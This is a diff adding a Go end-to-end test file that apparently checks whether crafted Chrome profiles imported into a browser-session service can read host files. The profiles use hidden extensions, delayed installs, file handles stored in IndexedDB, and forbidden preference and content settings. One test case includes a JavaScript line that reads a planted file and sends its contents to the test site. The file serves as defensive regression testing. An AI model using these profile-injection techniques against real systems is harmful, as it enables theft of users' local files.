@@ -1,0 +1,275 @@
+package e2e
+
+import (
+	"archive/tar"
+	"archive/zip"
+	"bytes"
+	"crypto/rand"
+	"crypto/rsa"
+	"crypto/sha256"
+	"crypto/x509"
+	"encoding/base64"
+	"encoding/json"
+	"fmt"
+	"maps"
+	"net/http"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/stasisd/stasis/e2e/daemon"
+)
+
+// TestAttackProfiles: profiles that were made to read files without an address that
+// shows one. No wall but what Stasis takes out of a profile could stop them, so they
+// are tried without Landlock.
+func TestAttackProfiles(t *testing.T) {
+	t.Parallel()
+	d := daemon.Start(t, byOrdinaryUser(t, daemon.Options{Tags: []string{noLandlock, noBlocklist}, Unraced: true}))
+	l := plant(t)
+	for _, c := range []struct {
+		name string
+		take func(*thief)
+	}{
+		{"an extension whose folder has no name", byNamelessFolder},
+		{"an installation that was put off", byDelayedInstall},
+		{"a file that a page kept in IndexedDB", byFileHandle},
+		{"a download that was interrupted", byResumedDownload},
+		{"such a file and an administrator's setting", byManagedSetting},
+		{"such a file and an extension's preference", byExtensionsPreference},
+		{"such a file and an extension's content setting", byExtensionsContentSetting},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			x := newThief(t, d, l)
+			x.engine = "chrome"
+			c.take(x)
+			x.watch()
+			x.count()
+			x.leave()
+		})
+	}
+}
+
+// newExtension gives a manifest with a key, and the ID that follows from it.
+func newExtension(t *testing.T) (id string, manifest obj) {
+	t.Helper()
+	key, err := rsa.GenerateKey(rand.Reader, 2048)
+	if err != nil {
+		t.Fatal(err)
+	}
+	public, err := x509.MarshalPKIXPublicKey(&key.PublicKey)
+	if err != nil {
+		t.Fatal(err)
+	}
+	sum := sha256.Sum256(public)
+	id = strings.Map(func(r rune) rune {
+		if r <= '9' {
+			return r - '0' + 'a'
+		}
+		return r - 'a' + 'k'
+	}, fmt.Sprintf("%x", sum[:16]))
+	return id, obj{"manifest_version": 3, "name": "Thief", "version": "1.0", "key": base64.StdEncoding.EncodeToString(public),
+		"permissions": []string{"tabs", "downloads"}, "host_permissions": []string{"<all_urls>", "file:///*"},
+		"web_accessible_resources": []obj{{"resources": []string{"*"}, "matches": []string{"<all_urls>"}}}}
+}
+
+// preferencesWith is a profile's preferences with one extension.
+func preferencesWith(t *testing.T, id string, entry obj) []byte {
+	t.Helper()
+	return asJSON(t, obj{"profile": obj{"exit_type": "Normal"},
+		"extensions": obj{"ui": obj{"developer_mode": true}, "settings": obj{id: entry}}})
+}
+
+func asJSON(t *testing.T, v any) []byte {
+	t.Helper()
+	raw, err := json.Marshal(v)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return raw
+}
+
+// byNamelessFolder imports an archive whose profile has an extension that nobody
+// uploaded, in the folder of the empty name: the profile's own Extensions.
+func byNamelessFolder(x *thief) {
+	id, manifest := newExtension(x.t)
+	granted := obj{"api": []string{"tabs"}, "explicit_host": []string{"<all_urls>", "file:///*"}, "manifest_permissions": []string{}, "scriptable_host": []string{}}
+	entry := obj{"path": "", "location": 1, "state": 1, "manifest": manifest, "creation_flags": 5, "newAllowFileAccess": true,
+		"disable_reasons": []int{}, "active_permissions": granted, "granted_permissions": granted, "first_install_time": "13380000000000000"}
+	script := `fetch("` + x.loot[0].url() + `").then(r => r.text()).then(t => fetch("` + x.site.URL + `/?" + encodeURIComponent(t), {mode: "no-cors"}))`
+	var archive bytes.Buffer
+	w := tar.NewWriter(&archive)
+	for _, f := range []struct {
+		name string
+		data []byte
+	}{
+		{"Default/Extensions/manifest.json", asJSON(x.t, manifest)},
+		{"Default/Extensions/page.html", []byte(`<script src="page.js"></script>`)},
+		{"Default/Extensions/page.js", []byte(script)},
+		{"Default/Preferences", preferencesWith(x.t, id, entry)},
+		{"state.json", []byte(`{"schema_version":"1","datadir":"clean"}`)},
+	} {
+		err := w.WriteHeader(&tar.Header{Name: f.name, Mode: 0o600, Typeflag: tar.TypeReg, Size: int64(len(f.data))})
+		if err == nil {
+			_, err = w.Write(f.data)
+		}
+		if err != nil {
+			x.t.Fatal(err)
+		}
+	}
+	if err := w.Close(); err != nil {
+		x.t.Fatal(err)
+	}
+	a := imports(x.t, x.d, "stasis", archive.Bytes())
+	x.enter(obj{"restore_from_environment_id": a.Snapshot.ID})
+	page, _ := x.newPage("/")
+	x.eval(page, `document.body.append(Object.assign(document.createElement("iframe"), {src: "chrome-extension://`+id+`/page.html"}))`)
+}
+
+// byDelayedInstall imports a profile in which an uploaded extension waits for an
+// update, from the folder that has the file.
+func byDelayedInstall(x *thief) {
+	id, entry := x.uploaded()
+	later := obj{"path": filepath.Dir(x.loot[0].path), "location": 4, "state": 1, "manifest": entry["manifest"], "creation_flags": 5,
+		"delay_install_reason": 1, "install_time": "13380000000000000"}
+	entry["idle_install_info"] = later
+	a := imports(x.t, x.d, "datadir", zipFiles(x.t, map[string][]byte{
+		"profile/Local State": []byte(`{}`), "profile/Default/Preferences": preferencesWith(x.t, id, entry)}))
+	x.enter(obj{"restore_from_environment_id": a.Snapshot.ID, "extensions": []string{id}})
+	page, _ := x.newPage("/")
+	x.step(page, "Page.navigate", obj{"url": "chrome-extension://" + id + "/page.html"})
+	daemon.Eventually(x.t, grace, "the extension's own page, or the file", func() bool {
+		x.eval(page, `fetch("/`+filepath.Base(x.loot[0].path)+`").then(r => r.text()).then(t => console.log(t), String)`)
+		x.step(page, "Page.navigate", obj{"url": "chrome-extension://" + id + "/" + filepath.Base(x.loot[0].path)})
+		if strings.Contains(x.eval(page, `document.documentElement.innerText`), x.loot[0].text) {
+			return true
+		}
+		x.step(page, "Page.navigate", obj{"url": "chrome-extension://" + id + "/page.html"})
+		return x.eval(page, `document.title`) == "own"
+	})
+}
+
+// byFileHandle imports a profile whose page keeps a handle of the file, with settings
+// that let it read.
+func byFileHandle(x *thief) {
+	allow := obj{x.site.URL + ",*": obj{"setting": 1}}
+	chosen := obj{"chosen-objects": []obj{{"display-name": "x", "is-directory": false, "path": x.loot[0].path, "path-type": 0, "readable": true, "writable": true}}}
+	x.readHandle("", obj{"profile": obj{
+		"default_content_setting_values": obj{"file_system_read_guard": 1, "file_system_write_guard": 1},
+		"content_settings": obj{"exceptions": obj{"file_system_read_guard": allow, "file_system_write_guard": allow,
+			"file_system_access_extended_permission": allow, "file_system_access_chooser_data": obj{x.site.URL + "," + x.site.URL: obj{"setting": chosen}}}}}})
+}
+
+// byManagedSetting imports a profile with such a handle and what a policy of the
+// machine's administrator would have set.
+func byManagedSetting(x *thief) {
+	x.readHandle("", obj{"profile": obj{"managed_default_content_settings": obj{"file_system_read_guard": 1, "file_system_write_guard": 1}}})
+}
+
+// byExtensionsPreference imports a profile with such a handle and an uploaded extension
+// that has set a preference which no extension may set.
+func byExtensionsPreference(x *thief) {
+	id, entry := x.uploaded()
+	entry["preferences"] = obj{"profile.default_content_setting_values.file_system_read_guard": 1}
+	x.readHandle(id, obj{"extensions": obj{"ui": obj{"developer_mode": true}, "settings": obj{id: entry}}})
+}
+
+// byExtensionsContentSetting imports a profile with such a handle and an uploaded
+// extension that has set a content setting which no extension may set.
+func byExtensionsContentSetting(x *thief) {
+	id, entry := x.uploaded()
+	entry["content_settings"] = []obj{{"primaryPattern": "*", "secondaryPattern": "*", "type": "file-system-read-guard", "setting": "allow"}}
+	x.readHandle(id, obj{"extensions": obj{"ui": obj{"developer_mode": true}, "settings": obj{id: entry}}})
+}
+
+// uploaded uploads an extension, and gives its entry in the preferences of a profile.
+func (x *thief) uploaded() (id string, entry obj) {
+	x.t.Helper()
+	id, manifest := newExtension(x.t)
+	packed := zipFiles(x.t, map[string][]byte{"manifest.json": asJSON(x.t, manifest), "page.html": []byte(`<title>own</title>`)})
+	x.d.Send(x.t, daemon.Key, http.MethodPost, "/v1/extensions", bytes.NewReader(packed), http.Header{"Content-Type": {"application/zip"}})
+	return id, obj{"path": "/nowhere", "location": 4, "state": 1, "manifest": manifest, "disable_reasons": []int{},
+		"first_install_time": "13380000000000000"}
+}
+
+// readHandle imports a profile whose page keeps a handle of the file, changed by these
+// preferences, and reads the file.
+func (x *thief) readHandle(extension string, change obj) {
+	dir := profileOf(x.t, func(w *wire, page string) {
+		w.open(page, x.site.URL+"/")
+		w.eval(page, `document.ondragover = e => e.preventDefault();
+			document.ondrop = e => { e.preventDefault(); window.kept = (async () => {
+				const h = await e.dataTransfer.items[0].getAsFileSystemHandle();
+				const d = await new Promise(ok => { const r = indexedDB.open("d", 1); r.onupgradeneeded = () => r.result.createObjectStore("s"); r.onsuccess = () => ok(r.result) });
+				await new Promise(ok => { const t = d.transaction("s", "readwrite"); t.objectStore("s").put(h, "h"); t.oncomplete = ok }); return h.name })() }; 1`)
+		for _, kind := range []string{"dragEnter", "dragOver", "drop"} {
+			w.call(page, "Input.dispatchDragEvent", obj{"type": kind, "x": 50, "y": 50,
+				"data": obj{"items": []obj{}, "files": []string{x.loot[0].path}, "dragOperationsMask": 1}}, nil)
+		}
+		daemon.Eventually(x.t, grace, "the handle is kept", func() bool { return w.eval(page, `window.kept`) == filepath.Base(x.loot[0].path) })
+	})
+	page := x.enterWith(dir, extension, change)
+	if got := x.eval(page, `(async () => {
+		const d = await new Promise((ok, no) => { const r = indexedDB.open("d", 1); r.onsuccess = () => ok(r.result); r.onerror = () => no(r.error) });
+		window.handle = await new Promise((ok, no) => { const r = d.transaction("s").objectStore("s").get("h"); r.onsuccess = () => ok(r.result); r.onerror = () => no(r.error) });
+		return handle.name })()`); got != filepath.Base(x.loot[0].path) {
+		x.t.Errorf("the handle did not come back: %s", got)
+	}
+	x.eval(page, `handle.getFile().then(f => f.text()).then(t => console.log(t), String)`)
+	x.eval(page, `handle.getFile().then(f => f.text())`)
+}
+
+// enterWith imports a profile, changed by these preferences, and begins a session on it
+// with an extension, or none. It gives a page of the thief's site.
+func (x *thief) enterWith(dir, extension string, change obj) (page string) {
+	x.t.Helper()
+	file := filepath.Join(dir, "Default", "Preferences")
+	raw, err := os.ReadFile(file)
+	if err != nil {
+		x.t.Fatal(err)
+	}
+	var prefs map[string]any
+	if err := json.Unmarshal(raw, &prefs); err != nil {
+		x.t.Fatal(err)
+	}
+	for name, value := range change {
+		of, is := prefs[name].(map[string]any)
+		values, ok := value.(obj)
+		if !is || !ok {
+			x.t.Fatalf("no %s in %s", name, raw)
+		}
+		maps.Copy(of, values)
+	}
+	if err := os.WriteFile(file, asJSON(x.t, prefs), 0o600); err != nil {
+		x.t.Fatal(err)
+	}
+	a := imports(x.t, x.d, "datadir", zipOf(x.t, dir, "profile"))
+	body := obj{"restore_from_environment_id": a.Snapshot.ID}
+	if extension != "" {
+		body["extensions"] = []string{extension}
+	}
+	x.enter(body)
+	page, _ = x.newPage("/")
+	return page
+}
+
+// zipFiles packs files by name.
+func zipFiles(t *testing.T, files map[string][]byte) []byte {
+	t.Helper()
+	var packed bytes.Buffer
+	z := zip.NewWriter(&packed)
+	for name, data := range files {
+		f, err := z.Create(name)
+		if err == nil {
+			_, err = f.Write(data)
+		}
+		if err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := z.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return packed.Bytes()
+}
